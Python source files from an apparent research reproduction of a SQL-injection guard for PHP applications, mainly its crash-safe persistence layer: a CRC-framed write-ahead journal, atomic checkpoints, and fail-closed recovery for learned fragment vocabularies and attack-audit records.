        return PhpObject(class_name, properties)
    raise PhpSerializeError(f"unknown tag {tag!r} at offset {reader.pos}")


def php_unserialize(data: str):
    """Parse one serialized PHP value; raises :class:`PhpSerializeError`."""
    reader = _Reader(data)
    value = _parse(reader)
    if reader.pos != len(reader.data):
        raise PhpSerializeError(
            f"trailing data after offset {reader.pos} in serialized value"
        )
    return value
