"""Simulated PHP web-application substrate.

Provides the pieces of the paper's deployment environment that taint
inference interacts with: HTTP requests and superglobals
(:mod:`~repro.phpapp.request`), PHP/WordPress input transformations
(:mod:`~repro.phpapp.transforms`), raw-input capture for NTI
(:mod:`~repro.phpapp.context`), PHP source scanning for PTI fragments
(:mod:`~repro.phpapp.source`), and the application/plugin framework with the
database-wrapper interception point (:mod:`~repro.phpapp.application`).
"""

from .application import (
    DatabaseWrapper,
    Handler,
    Plugin,
    QueryBlockedError,
    QueryGuard,
    TerminationSignal,
    WebApplication,
)
from .context import CapturedInput, RequestContext
from .request import HttpRequest, HttpResponse, InputSource
from .source import (
    extract_fragments,
    extract_string_literals,
    has_sql_token,
    split_placeholders,
)

__all__ = [
    "DatabaseWrapper",
    "Handler",
    "Plugin",
    "QueryBlockedError",
    "QueryGuard",
    "TerminationSignal",
    "WebApplication",
    "CapturedInput",
    "RequestContext",
    "HttpRequest",
    "HttpResponse",
    "InputSource",
    "extract_fragments",
    "extract_string_literals",
    "has_sql_token",
    "split_placeholders",
]
