"""Compacted checkpoint snapshots (DESIGN.md section 15).

A checkpoint compacts the journal: one file holding the full durable
state -- base vocabulary, tenant overlays, and the attack-audit tail --
so recovery is O(state), not O(history), and the journal can be reset.

File format: the journal's record framing (:mod:`repro.persist.journal`)
with a distinct magic, holding exactly

1. one ``REC_SNAPSHOT`` record embedding the tenancy replication frame
   (:func:`repro.pti.wire.pack_store_snapshot` -- the same bytes a
   respawned gateway worker rehydrates from),
2. zero or more ``REC_TENANT_OVERLAY`` records,
3. zero or more ``REC_AUDIT`` records (the retained attack evidence),
4. one ``REC_SEAL`` record asserting the count of records before it.

Write protocol (the only path to a visible checkpoint):

    write tmp file -> flush -> fsync(tmp) -> os.replace(tmp, path)
    -> fsync(directory)

``os.replace`` is atomic on POSIX, so at ``path`` a reader ever sees the
old checkpoint or the complete new one -- never a tear.  A crash before
the rename leaves only a stale ``*.tmp`` (swept at recovery); a crash
after leaves the new file durable.  The seal therefore doubles as a
tamper/short-write detector: a checkpoint without its seal, or with any
framing damage, is refused with :class:`JournalCorrupt` -- recovery
never silently falls back past a damaged checkpoint.

``opener`` and ``replace`` are injectable so the crash harness
(:mod:`repro.testbed.crashfaults`) can kill the process mid-write and
mid-rename.
"""

from __future__ import annotations

import os
from dataclasses import dataclass, field
from typing import Callable, Mapping, Sequence

from ..pti.wire import pack_store_snapshot, unpack_store_snapshot
from .journal import (
    FILE_MAGIC as _JOURNAL_MAGIC,
    REC_AUDIT,
    REC_SEAL,
    REC_SNAPSHOT,
    REC_TENANT_OVERLAY,
    JournalCorrupt,
    decode_record,
    encode_audit,
    encode_seal,
    encode_snapshot,
    encode_tenant_overlay,
    frame_record,
    scan_buffer,
)

__all__ = ["CHECKPOINT_MAGIC", "Checkpoint", "read_checkpoint", "write_checkpoint"]

#: Checkpoint file magic: name, format version, reserved.
CHECKPOINT_MAGIC = b"JZCK\x01\x00\x00\x00"


@dataclass
class Checkpoint:
    """One decoded, seal-verified checkpoint.

    ``journal_seq`` is the highest journal sequence number this
    checkpoint compacted: recovery skips journal records with ``seq <=
    journal_seq``, so a crash between checkpoint publication and journal
    truncation can never double-apply them.
    """

    fragments: list[str]
    epoch: int
    tenant: str = ""
    overlays: dict[str, list[str]] = field(default_factory=dict)
    audit: list[dict] = field(default_factory=list)
    journal_seq: int = 0


def write_checkpoint(
    path: str,
    *,
    fragments: Sequence[str],
    epoch: int,
    tenant: str = "",
    overlays: Mapping[str, Sequence[str]] | None = None,
    audit: Sequence[dict] | None = None,
    journal_seq: int = 0,
    opener: Callable[[str], object] | None = None,
    replace: Callable[[str, str], None] | None = None,
) -> int:
    """Atomically publish one checkpoint at ``path``; returns bytes written.

    The journal may be truncated only after this returns -- by then the
    checkpoint and its directory entry are both fsynced.
    """
    records = [encode_snapshot(pack_store_snapshot(fragments, epoch, tenant=tenant))]
    for tenant_id in sorted(overlays or {}):
        records.append(encode_tenant_overlay(tenant_id, (overlays or {})[tenant_id]))
    for event in audit or ():
        records.append(encode_audit(event))
    records.append(encode_seal(len(records), journal_seq))

    blob = bytearray(CHECKPOINT_MAGIC)
    # Checkpoint records carry ordinal sequences (the scanner insists on
    # strict increase); the journal high-water mark lives in the seal.
    for ordinal, payload in enumerate(records, start=1):
        blob += frame_record(payload, ordinal)

    tmp_path = path + ".tmp"
    handle = opener(tmp_path) if opener is not None else open(tmp_path, "wb")
    try:
        handle.write(bytes(blob))
        handle.flush()
        os.fsync(handle.fileno())
    finally:
        handle.close()
    (replace if replace is not None else os.replace)(tmp_path, path)
    _fsync_dir(os.path.dirname(os.path.abspath(path)))
    return len(blob)


def read_checkpoint(path: str) -> Checkpoint | None:
    """Decode and verify the checkpoint at ``path`` (fail-closed).

    Returns ``None`` only when no checkpoint file exists (a fresh state
    directory).  Any existing-but-damaged checkpoint -- bad magic, torn
    bytes, CRC mismatch, missing or lying seal -- raises
    :class:`JournalCorrupt`: atomic publication means damage here is
    disk-level corruption, never an expected crash shape.
    """
    try:
        with open(path, "rb") as handle:
            buf = handle.read()
    except FileNotFoundError:
        return None
    if len(buf) < len(CHECKPOINT_MAGIC) or buf[: len(CHECKPOINT_MAGIC)] != CHECKPOINT_MAGIC:
        raise JournalCorrupt(f"bad checkpoint magic: {buf[:8]!r}", path=path)
    # Reuse the journal scanner for framing, but a checkpoint is published
    # atomically: a torn tail is corruption here, not a crash shape.
    scan = scan_buffer(_JOURNAL_MAGIC + buf[len(CHECKPOINT_MAGIC) :], path=path)
    if scan.torn_tail:
        raise JournalCorrupt("checkpoint is truncated", path=path)
    if not scan.records:
        raise JournalCorrupt("checkpoint holds no records", path=path)

    seal_kind, seal_body = decode_record(scan.records[-1][1])
    if seal_kind != REC_SEAL:
        raise JournalCorrupt("checkpoint is unsealed", path=path)
    seal_count, journal_seq = seal_body
    if seal_count != len(scan.records) - 1:
        raise JournalCorrupt(
            f"checkpoint seal asserts {seal_count} records, found {len(scan.records) - 1}",
            path=path,
        )

    checkpoint: Checkpoint | None = None
    for _seq, payload in scan.records[:-1]:
        kind, body = decode_record(payload)
        if kind == REC_SNAPSHOT:
            if checkpoint is not None:
                raise JournalCorrupt("checkpoint holds multiple snapshots", path=path)
            tenant, epoch, fragments = unpack_store_snapshot(bytes(body))
            checkpoint = Checkpoint(fragments=list(fragments), epoch=epoch, tenant=tenant)
        elif kind == REC_TENANT_OVERLAY:
            if checkpoint is None:
                raise JournalCorrupt("overlay record precedes snapshot", path=path)
            tenant_id, fragments = body
            checkpoint.overlays[tenant_id] = list(fragments)
        elif kind == REC_AUDIT:
            if checkpoint is None:
                raise JournalCorrupt("audit record precedes snapshot", path=path)
            checkpoint.audit.append(body)
        else:
            raise JournalCorrupt(f"unexpected record kind {kind} in checkpoint", path=path)
    if checkpoint is None:
        raise JournalCorrupt("checkpoint holds no snapshot record", path=path)
    checkpoint.journal_seq = journal_seq
    return checkpoint


def sweep_stale_tmp(state_dir: str) -> int:
    """Remove ``*.tmp`` left by crashes mid-checkpoint; returns count."""
    removed = 0
    try:
        names = os.listdir(state_dir)
    except FileNotFoundError:
        return 0
    for name in names:
        if name.endswith(".tmp"):
            try:
                os.unlink(os.path.join(state_dir, name))
                removed += 1
            except OSError:  # pragma: no cover - concurrent sweep
                pass
    return removed


def _fsync_dir(directory: str) -> None:
    """Make the rename itself durable (POSIX requires the dir fsync)."""
    try:
        fd = os.open(directory, os.O_RDONLY)
    except OSError:  # pragma: no cover - e.g. exotic filesystems
        return
    try:
        os.fsync(fd)
    finally:
        os.close(fd)
