"""Durable state directories: journaling store, recovery, fleet layout.

This module ties the journal and checkpoint primitives into the objects
the rest of the guard uses (DESIGN.md section 15):

- :class:`DurableFragmentStore` -- a :class:`~repro.pti.fragments.
  FragmentStore` that journals every mutation *before* applying it (the
  WAL discipline: if the journal append fails, the mutation is refused
  and memory is untouched, so disk never lags memory).
- :func:`recover` -- newest valid checkpoint + verified journal replay,
  returning a :class:`RecoveredState`; fail-closed on any mid-stream
  damage, torn tails truncated and counted.
- :class:`DurableState` -- one state directory (``checkpoint.jz`` +
  ``journal.jz``) wrapping store, tenant overlays and the attack-audit
  tail, with group commit, periodic compaction and a crash-shaped
  ``abandon()`` for the harness and non-drain shutdowns.
- :class:`FleetPersistence` -- the multi-tenant layout used by
  :class:`~repro.tenancy.TenantRegistry`: one shared-base checkpoint
  plus a per-tenant journal+checkpoint directory per overlay.
"""

from __future__ import annotations

import os
import threading
import time
import urllib.parse
from collections import deque
from dataclasses import dataclass, field
from typing import Callable, Iterable, Sequence

from ..pti.fragments import FragmentStore
from .checkpoint import Checkpoint, read_checkpoint, sweep_stale_tmp, write_checkpoint
from .journal import (
    REC_AUDIT,
    REC_FRAG_ADD,
    REC_FRAG_RELOAD,
    REC_FRAG_REMOVE,
    REC_TENANT_OVERLAY,
    FsyncPolicy,
    JournalCorrupt,
    JournalWriter,
    decode_record,
    encode_audit,
    encode_frag_add,
    encode_frag_reload,
    encode_frag_remove,
    encode_tenant_overlay,
    scan_journal,
)

__all__ = [
    "CHECKPOINT_NAME",
    "JOURNAL_NAME",
    "DurableFragmentStore",
    "DurableState",
    "FleetPersistence",
    "RecoveredState",
    "recover",
]

CHECKPOINT_NAME = "checkpoint.jz"
JOURNAL_NAME = "journal.jz"


class DurableFragmentStore(FragmentStore):
    """Fragment store whose mutations hit the journal before memory.

    Construction-time fragments are *not* journaled (they are either the
    recovered state itself or a seed that the owner immediately
    checkpoints); journaling starts when :meth:`bind_journal` attaches a
    writer.  Each mutation appends exactly one logical record -- the
    deduplicated batch for ``add_many``, the kept-order vocabulary for
    ``reload`` -- so replay reproduces both contents *and* epoch
    arithmetic (``+len(added)`` / ``+1`` / ``+1``) deterministically.
    """

    def __init__(self, fragments: Iterable[str] = ()) -> None:
        self._journal: JournalWriter | None = None
        super().__init__(fragments)

    def bind_journal(self, journal: JournalWriter | None) -> None:
        with self._mutation_lock:
            self._journal = journal

    def add_many(self, fragments: Iterable[str]) -> None:
        with self._mutation_lock:
            if self._journal is None:
                return super().add_many(fragments)
            seen = self._state.seen
            batch: list[str] = []
            batch_seen: set[str] = set()
            for fragment in fragments:
                if not fragment or fragment in seen or fragment in batch_seen:
                    continue
                batch_seen.add(fragment)
                batch.append(fragment)
            if not batch:
                return
            # WAL: a failed append raises here and the mutation is refused.
            self._journal.append(encode_frag_add(batch))
            super().add_many(batch)

    def remove(self, fragment: str) -> bool:
        with self._mutation_lock:
            if self._journal is None:
                return super().remove(fragment)
            if fragment not in self._state.seen:
                return False
            self._journal.append(encode_frag_remove(fragment))
            return super().remove(fragment)

    def reload(self, fragments: Iterable[str], *, warm: bool = False) -> None:
        with self._mutation_lock:
            if self._journal is None:
                return super().reload(fragments, warm=warm)
            seen: set[str] = set()
            kept: list[str] = []
            for fragment in fragments:
                if not fragment or fragment in seen:
                    continue
                seen.add(fragment)
                kept.append(fragment)
            self._journal.append(encode_frag_reload(kept))
            super().reload(kept, warm=warm)


@dataclass
class RecoveredState:
    """What :func:`recover` reconstructed, plus how it got there."""

    fragments: list[str]
    epoch: int
    tenant: str = ""
    overlays: dict[str, list[str]] = field(default_factory=dict)
    audit: list[dict] = field(default_factory=list)
    #: "fresh" (empty dir), "checkpoint" (no journal records) or
    #: "checkpoint+journal" (records replayed on top).
    source: str = "fresh"
    replayed_records: int = 0
    #: Journal records skipped because the checkpoint already absorbed
    #: them (crash landed between checkpoint publication and truncation).
    skipped_records: int = 0
    #: High-water journal sequence (checkpoint seal or last replayed
    #: record); a fresh writer continues from ``journal_seq + 1``.
    journal_seq: int = 0
    torn_tail_truncated: bool = False
    torn_bytes: int = 0
    stale_tmp_swept: int = 0

    def build_store(self) -> DurableFragmentStore:
        return DurableFragmentStore.restore(self.fragments, self.epoch)

    def report(self) -> dict:
        return {
            "source": self.source,
            "fragments": len(self.fragments),
            "epoch": self.epoch,
            "tenants": len(self.overlays),
            "audit_events": len(self.audit),
            "replayed_records": self.replayed_records,
            "skipped_records": self.skipped_records,
            "torn_tail_truncated": self.torn_tail_truncated,
            "torn_bytes": self.torn_bytes,
            "stale_tmp_swept": self.stale_tmp_swept,
        }


def recover(state_dir: str) -> RecoveredState:
    """Rebuild the durable state under ``state_dir`` (fail-closed).

    Recovery = newest valid checkpoint + journal replay, in four steps:
    sweep stale ``*.tmp`` (crashes mid-checkpoint), verify + load the
    checkpoint, verify the journal (truncating a torn tail so repeated
    recovery is idempotent), then replay records over an in-memory
    replica of the checkpoint.  Any mid-stream damage in either file
    raises :class:`JournalCorrupt` -- the caller must refuse to serve,
    never run on a silently partial vocabulary.
    """
    recovered = RecoveredState(fragments=[], epoch=0)
    recovered.stale_tmp_swept = sweep_stale_tmp(state_dir)

    checkpoint = read_checkpoint(os.path.join(state_dir, CHECKPOINT_NAME))
    if checkpoint is not None:
        recovered.fragments = list(checkpoint.fragments)
        recovered.epoch = checkpoint.epoch
        recovered.tenant = checkpoint.tenant
        recovered.overlays = {t: list(f) for t, f in checkpoint.overlays.items()}
        recovered.audit = list(checkpoint.audit)
        recovered.journal_seq = checkpoint.journal_seq
        recovered.source = "checkpoint"

    journal_path = os.path.join(state_dir, JOURNAL_NAME)
    scan = scan_journal(journal_path)
    if scan.torn_tail:
        recovered.torn_tail_truncated = True
        recovered.torn_bytes = scan.torn_bytes
        with open(journal_path, "r+b") as handle:
            handle.truncate(scan.valid_bytes)

    if scan.records:
        # Replay over a plain store: epoch arithmetic is reproduced by the
        # same mutation paths that produced the records.  Records the
        # checkpoint seal already covers are skipped, not re-applied -- a
        # crash between checkpoint publication and journal truncation
        # must not double-count epochs or duplicate audit events.
        replica = FragmentStore.restore(recovered.fragments, recovered.epoch)
        replayed = 0
        for seq, payload in scan.records:
            if seq <= recovered.journal_seq:
                recovered.skipped_records += 1
                continue
            kind, body = decode_record(payload)
            if kind == REC_FRAG_ADD:
                replica.add_many(body)
            elif kind == REC_FRAG_REMOVE:
                replica.remove(body)
            elif kind == REC_FRAG_RELOAD:
                replica.reload(body)
            elif kind == REC_AUDIT:
                recovered.audit.append(body)
            elif kind == REC_TENANT_OVERLAY:
                tenant_id, fragments = body
                recovered.overlays[tenant_id] = list(fragments)
            else:
                raise JournalCorrupt(
                    f"checkpoint-only record kind {kind} in journal",
                    path=journal_path,
                )
            replayed += 1
            recovered.journal_seq = seq
        recovered.replayed_records = replayed
        recovered.fragments = list(replica.fragments)
        recovered.epoch = replica.epoch
        if replayed:
            recovered.source = (
                "checkpoint+journal" if checkpoint is not None else "journal"
            )
    return recovered


class DurableState:
    """One durable state directory: store + overlays + audit + recovery.

    Opening an existing directory recovers it (fail-closed); opening a
    fresh one seeds the store from ``seed_fragments`` and immediately
    writes the initial checkpoint, so a crash one instant later already
    restores the seed.  Persisted state always wins over the seed -- the
    seed is only the cold-start vocabulary.

    ``opener`` / ``replace`` are the crash-injection hooks, threaded down
    to :class:`JournalWriter` and :func:`write_checkpoint`.
    """

    def __init__(
        self,
        state_dir: str,
        *,
        seed_fragments: Iterable[str] = (),
        tenant: str = "",
        fsync: FsyncPolicy | str = FsyncPolicy.BATCH,
        batch_size: int = 64,
        checkpoint_every: int = 512,
        audit_keep: int = 256,
        opener: Callable[[str], object] | None = None,
        replace: Callable[[str, str], None] | None = None,
    ) -> None:
        if checkpoint_every < 1:
            raise ValueError("checkpoint_every must be >= 1")
        if isinstance(fsync, str):
            fsync = FsyncPolicy.from_name(fsync)
        os.makedirs(state_dir, exist_ok=True)
        self.state_dir = state_dir
        self.fsync_policy = fsync
        self.checkpoint_every = checkpoint_every
        self._opener = opener
        self._replace = replace
        self._lock = threading.RLock()
        self._closed = False

        self.recovered = recover(state_dir)
        if self.recovered.source == "fresh":
            self.store = DurableFragmentStore(seed_fragments)
            self.overlays: dict[str, list[str]] = {}
            self._audit: deque[dict] = deque(maxlen=audit_keep)
            self.tenant = tenant
        else:
            self.store = DurableFragmentStore.restore(
                self.recovered.fragments, self.recovered.epoch
            )
            self.overlays = dict(self.recovered.overlays)
            self._audit = deque(self.recovered.audit, maxlen=audit_keep)
            self.tenant = self.recovered.tenant or tenant

        # Observability.
        self.checkpoints_written = 0
        self.last_checkpoint_at = 0.0
        self.audit_persisted = 0
        self._since_checkpoint = 0

        self._journal = JournalWriter(
            os.path.join(state_dir, JOURNAL_NAME),
            fsync=fsync,
            batch_size=batch_size,
            start_seq=self.recovered.journal_seq + 1,
            opener=opener,
        )
        self.store.bind_journal(self._journal)
        self._store_lock_hook()

        # Fresh directories (seed vocabulary) and recoveries that replayed
        # a journal compact immediately: a crash one instant later already
        # restores this exact state from the checkpoint alone.
        if self.recovered.source != "checkpoint":
            self.checkpoint()

    def _store_lock_hook(self) -> None:
        """Count journaled store mutations toward the checkpoint cadence.

        The store appends its own records; wrap the journal's ``append``
        so every record (fragment or audit) advances ``_since_checkpoint``
        without double-counting anywhere.
        """
        raw_append = self._journal.append

        def counting_append(payload: bytes) -> None:
            raw_append(payload)
            self._since_checkpoint += 1

        self._journal.append = counting_append  # type: ignore[method-assign]

    # ------------------------------------------------------------------
    # Mutations beyond the store itself
    # ------------------------------------------------------------------

    def append_audit(self, event: dict) -> None:
        """Durably record one attack-audit event (journal-first)."""
        with self._lock:
            self._journal.append(encode_audit(event))
            self._audit.append(event)
            self.audit_persisted += 1

    def set_overlay(self, tenant_id: str, fragments: Sequence[str]) -> None:
        """Durably record one tenant's full overlay vocabulary."""
        with self._lock:
            kept = list(dict.fromkeys(f for f in fragments if f))
            self._journal.append(encode_tenant_overlay(tenant_id, kept))
            self.overlays[tenant_id] = kept

    def audit_tail(self) -> list[dict]:
        with self._lock:
            return list(self._audit)

    # ------------------------------------------------------------------
    # Checkpointing
    # ------------------------------------------------------------------

    def _write_checkpoint_locked(self) -> None:
        snapshot = self.store.snapshot()
        write_checkpoint(
            os.path.join(self.state_dir, CHECKPOINT_NAME),
            fragments=snapshot.fragments,
            epoch=snapshot.epoch,
            tenant=self.tenant,
            overlays=self.overlays,
            audit=list(self._audit),
            journal_seq=self._journal.last_seq,
            opener=self._opener,
            replace=self._replace,
        )
        self.checkpoints_written += 1
        self.last_checkpoint_at = time.time()
        self._since_checkpoint = 0

    def checkpoint(self) -> None:
        """Compact now: durable checkpoint, then reset the journal.

        Ordering is the whole contract -- the journal may only shrink
        *after* the checkpoint file and its directory entry are fsynced.
        A crash between the two leaves checkpoint + stale journal, which
        recovery reconciles by sequence number: the seal records the
        highest seq compacted, and replay skips everything at or below
        it, so nothing is double-applied.
        """
        with self._lock:
            self._journal.commit()
            self._write_checkpoint_locked()
            self._journal.truncate_to_empty()

    def maybe_checkpoint(self) -> bool:
        """Checkpoint when the journal has accumulated enough records."""
        with self._lock:
            if self._since_checkpoint < self.checkpoint_every:
                return False
            self.checkpoint()
            return True

    def commit(self) -> None:
        """Force the journal's pending group to stable storage."""
        with self._lock:
            self._journal.commit()

    # ------------------------------------------------------------------
    # Shutdown
    # ------------------------------------------------------------------

    def close(self) -> None:
        """Graceful shutdown: flush, final checkpoint, release handles."""
        with self._lock:
            if self._closed:
                return
            self._closed = True
            self.store.bind_journal(None)
            try:
                self.checkpoint()
            finally:
                self._journal.close(flush=True)

    def abandon(self) -> None:
        """Crash-shaped shutdown: drop handles, flush nothing.

        Used by non-drain gateway stops and the crash harness so the
        subsequent :func:`recover` genuinely exercises journal replay
        instead of reading a tidy final checkpoint.
        """
        with self._lock:
            if self._closed:
                return
            self._closed = True
            self.store.bind_journal(None)
            self._journal.close(flush=False)

    # ------------------------------------------------------------------
    # Observability
    # ------------------------------------------------------------------

    def durability_report(self) -> dict:
        with self._lock:
            report = {
                "state_dir": self.state_dir,
                "fsync_policy": self.fsync_policy.value,
                "checkpoint_every": self.checkpoint_every,
                "checkpoints_written": self.checkpoints_written,
                "checkpoint_age_s": (
                    round(time.time() - self.last_checkpoint_at, 3)
                    if self.last_checkpoint_at
                    else None
                ),
                "records_since_checkpoint": self._since_checkpoint,
                "audit_persisted": self.audit_persisted,
                "recovery": self.recovered.report(),
            }
            report.update(self._journal.counters())
            return report


class FleetPersistence:
    """Multi-tenant durable layout for :class:`~repro.tenancy.TenantRegistry`.

    ``state_dir/base-<quoted-name>.jz`` checkpoints each shared base
    vocabulary (written when the base is defined -- base definitions are
    rare administrative actions, so each gets a full atomic checkpoint
    rather than a journal).  Each tenant gets its own journal+checkpoint
    directory under ``state_dir/tenants/<quoted-tenant-id>/`` whose store
    holds the tenant's *overlay* fragments; base names and tenant ids are
    percent-quoted so arbitrary ids can never traverse outside the tree.
    """

    def __init__(
        self,
        state_dir: str,
        *,
        fsync: FsyncPolicy | str = FsyncPolicy.BATCH,
        batch_size: int = 64,
        checkpoint_every: int = 512,
    ) -> None:
        if isinstance(fsync, str):
            fsync = FsyncPolicy.from_name(fsync)
        os.makedirs(os.path.join(state_dir, "tenants"), exist_ok=True)
        self.state_dir = state_dir
        self.fsync_policy = fsync
        self.batch_size = batch_size
        self.checkpoint_every = checkpoint_every
        self._tenants: dict[str, DurableState] = {}
        self._lock = threading.RLock()

    def _tenant_dir(self, tenant_id: str) -> str:
        return os.path.join(
            self.state_dir, "tenants", urllib.parse.quote(tenant_id, safe="")
        )

    # -- shared bases --------------------------------------------------

    def _base_path(self, name: str) -> str:
        return os.path.join(
            self.state_dir, "base-" + urllib.parse.quote(name, safe="") + ".jz"
        )

    def record_base(self, name: str, fragments: Sequence[str]) -> None:
        """Checkpoint one shared base set (atomic, fsynced)."""
        sweep_stale_tmp(self.state_dir)
        write_checkpoint(
            self._base_path(name), fragments=fragments, epoch=0, tenant=name
        )

    def load_base(self, name: str) -> Checkpoint | None:
        return read_checkpoint(self._base_path(name))

    def recover_bases(self) -> dict[str, list[str]]:
        """Recover every persisted base set (fail-closed per file)."""
        sweep_stale_tmp(self.state_dir)
        bases: dict[str, list[str]] = {}
        for name in sorted(os.listdir(self.state_dir)):
            if not (name.startswith("base-") and name.endswith(".jz")):
                continue
            checkpoint = read_checkpoint(os.path.join(self.state_dir, name))
            if checkpoint is not None:
                base_name = urllib.parse.unquote(name[len("base-") : -len(".jz")])
                bases[base_name] = list(checkpoint.fragments)
        return bases

    # -- per-tenant overlays -------------------------------------------

    def open_tenant(
        self, tenant_id: str, seed_fragments: Sequence[str] = ()
    ) -> DurableState:
        with self._lock:
            state = self._tenants.get(tenant_id)
            if state is None:
                state = DurableState(
                    self._tenant_dir(tenant_id),
                    seed_fragments=seed_fragments,
                    tenant=tenant_id,
                    fsync=self.fsync_policy,
                    batch_size=self.batch_size,
                    checkpoint_every=self.checkpoint_every,
                )
                self._tenants[tenant_id] = state
            return state

    def record_overlay(self, tenant_id: str, fragments: Sequence[str]) -> None:
        """Journal a full overlay replacement for one tenant."""
        state = self.open_tenant(tenant_id)
        state.store.reload(fragments)
        state.maybe_checkpoint()

    def recover_overlays(self) -> dict[str, list[str]]:
        """Recover every persisted tenant overlay (fail-closed per tenant)."""
        overlays: dict[str, list[str]] = {}
        tenants_dir = os.path.join(self.state_dir, "tenants")
        try:
            names = sorted(os.listdir(tenants_dir))
        except FileNotFoundError:
            return overlays
        for name in names:
            tenant_dir = os.path.join(tenants_dir, name)
            if not os.path.isdir(tenant_dir):
                continue
            recovered = recover(tenant_dir)
            overlays[urllib.parse.unquote(name)] = list(recovered.fragments)
        return overlays

    # -- lifecycle -----------------------------------------------------

    def close(self) -> None:
        with self._lock:
            for state in self._tenants.values():
                state.close()
            self._tenants.clear()

    def abandon(self) -> None:
        with self._lock:
            for state in self._tenants.values():
                state.abandon()
            self._tenants.clear()

    def report(self) -> dict:
        with self._lock:
            return {
                "state_dir": self.state_dir,
                "fsync_policy": self.fsync_policy.value,
                "open_tenants": len(self._tenants),
                "tenants": {
                    tenant_id: state.durability_report()
                    for tenant_id, state in self._tenants.items()
                },
            }
