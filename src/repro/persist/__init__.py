"""Crash-safe durable state for the guard fleet (DESIGN.md section 15).

The paper deploys Joza as a *long-lived* DB interposition layer (Section
V) whose protection quality is exactly its accumulated trusted-fragment
state -- and whose audit value is the attack evidence it has recorded.
Everything upstream of this package keeps that state purely in memory, so
a crash or redeploy silently discards the learned vocabulary (forcing a
cold re-learn during which legitimate traffic is mis-flagged) and every
attack record (forensics gone).  This package makes both survive the
operational lifecycle of the application they protect:

- :mod:`repro.persist.journal` -- a CRC32-framed append-only write-ahead
  journal for fragment-store mutations and attack-audit events, with a
  configurable group-commit fsync policy, torn-tail truncation on replay
  and a typed :class:`JournalCorrupt` refusal for mid-stream damage.
- :mod:`repro.persist.checkpoint` -- periodic compacted snapshots reusing
  the tenancy replication frame (``pack_store_snapshot``), written via
  temp-file + atomic rename; the journal is truncated only after the
  checkpoint is durably on disk.
- :mod:`repro.persist.state` -- :class:`DurableFragmentStore` (a
  journaling :class:`~repro.pti.fragments.FragmentStore`) and
  :class:`DurableState` (one state directory: store + tenant overlays +
  audit trail + recovery), plus :class:`FleetPersistence` for the
  per-tenant-journal layout the :class:`~repro.tenancy.TenantRegistry`
  uses.

The recovery contract is **fail-closed**: ``recover(state_dir)`` either
restores a verified durable prefix of the pre-crash state or raises
:class:`JournalCorrupt` -- never a silent partial restore, never invented
state.  The crash-injection harness
(:mod:`repro.testbed.crashfaults`) proves restart-equivalence and
never-fail-open under seeded SIGKILL / partial-write / bit-flip
schedules.
"""

from .journal import (
    FsyncPolicy,
    JournalCorrupt,
    JournalScan,
    JournalWriter,
    scan_journal,
)
from .checkpoint import read_checkpoint, write_checkpoint
from .state import (
    DurableFragmentStore,
    DurableState,
    FleetPersistence,
    RecoveredState,
    recover,
)

__all__ = [
    "FsyncPolicy",
    "JournalCorrupt",
    "JournalScan",
    "JournalWriter",
    "scan_journal",
    "read_checkpoint",
    "write_checkpoint",
    "DurableFragmentStore",
    "DurableState",
    "FleetPersistence",
    "RecoveredState",
    "recover",
]
