"""CRC32-framed append-only write-ahead journal (DESIGN.md section 15).

One journal file records the mutation history of one fragment store plus
its attack-audit events.  The framing reuses the length-prefixed
discipline of :mod:`repro.pti.wire` -- every structural field is
bound-checked before any allocation, and every decode failure is a typed
refusal, never a partial result:

``file``::

    magic: 8 bytes = b"JZJL\\x01\\x00\\x00\\x00"
    repeat:  record

``record``::

    payload_len:I | crc32(seq || payload):I | seq:Q | payload bytes

``payload``::

    kind:B | body       (see the REC_* constants)

``seq`` is a strictly increasing per-record sequence number.  It exists
for exactly one reason: a checkpoint records the highest sequence it
compacted (in its seal), so if a crash lands between "checkpoint
durable" and "journal truncated", replay skips the records the
checkpoint already absorbed instead of double-applying them -- epoch
arithmetic and the audit trail stay exact, not merely
contents-idempotent.

Append discipline (the WAL contract): a mutation is written to the
journal *before* it is applied in memory, each record in a single
``write`` call, so a crash at any byte leaves the file a clean prefix of
whole records plus at most one torn tail.  Replay classifies damage into
exactly two cases:

- **torn tail** -- the file ends before the last record's declared bytes
  arrive (crash mid-append).  The tail is truncated and the durable
  prefix restored; this is the expected crash shape and is counted, not
  refused.
- **corruption** -- a *complete* record whose CRC32 does not match, an
  out-of-bounds declared length, or a damaged file magic.  This is not a
  crash shape (single-``write`` appends tear, they do not scramble), so
  replay raises :class:`JournalCorrupt` and the caller must refuse to
  serve -- fail closed, never a silently wrong vocabulary.

One ambiguity is fundamental and documented: a bit flip that *increases*
the final record's length field is indistinguishable from a torn tail,
so it truncates to the prior record instead of refusing.  The failure
direction is still conservative -- state is lost, never invented -- and
the journal fuzz suite pins exactly this contract.

Durability knobs: :class:`FsyncPolicy` selects fsync-per-append
(``ALWAYS``), group commit (``BATCH``: fsync once per
``batch_size`` appends or explicit :meth:`JournalWriter.commit`) or
OS-buffered (``NEVER``, benches and tests).  The Fig. 8 overhead gate
(<1% p50, ``benchmarks/bench_durability.py``) runs at the default
``BATCH`` policy.
"""

from __future__ import annotations

import enum
import json
import os
import struct
import zlib
from dataclasses import dataclass, field
from typing import Callable, Iterable, Sequence

from ..pti.wire import MAX_FRAME

__all__ = [
    "FILE_MAGIC",
    "MAX_RECORD",
    "REC_FRAG_ADD",
    "REC_FRAG_REMOVE",
    "REC_FRAG_RELOAD",
    "REC_AUDIT",
    "REC_SNAPSHOT",
    "REC_TENANT_OVERLAY",
    "REC_SEAL",
    "FsyncPolicy",
    "JournalCorrupt",
    "JournalScan",
    "JournalWriter",
    "scan_journal",
    "encode_frag_add",
    "encode_frag_remove",
    "encode_frag_reload",
    "encode_audit",
    "encode_snapshot",
    "encode_tenant_overlay",
    "encode_seal",
    "decode_record",
]

#: Journal file magic (8 bytes, written first in its own ``write``): name,
#: format version, reserved.  A torn magic means the crash happened during
#: file creation -- nothing was durable yet -- so it truncates to empty;
#: a *wrong* complete magic is corruption.
FILE_MAGIC = b"JZJL\x01\x00\x00\x00"

#: Hard per-record bound, shared with the wire layer: a declared length
#: beyond this is hostile or corrupt, refused before any allocation.
MAX_RECORD = MAX_FRAME

_REC_HEADER = struct.Struct("<II")  # payload_len, crc32(seq || payload)
_SEQ = struct.Struct("<Q")
_U32 = struct.Struct("<I")
_U64 = struct.Struct("<Q")

#: Record kinds (the payload's leading byte).
REC_FRAG_ADD = 1  # fragment batch inserted (add / add_many)
REC_FRAG_REMOVE = 2  # one fragment removed
REC_FRAG_RELOAD = 3  # full vocabulary replaced
REC_AUDIT = 4  # one attack-audit event (UTF-8 JSON object)
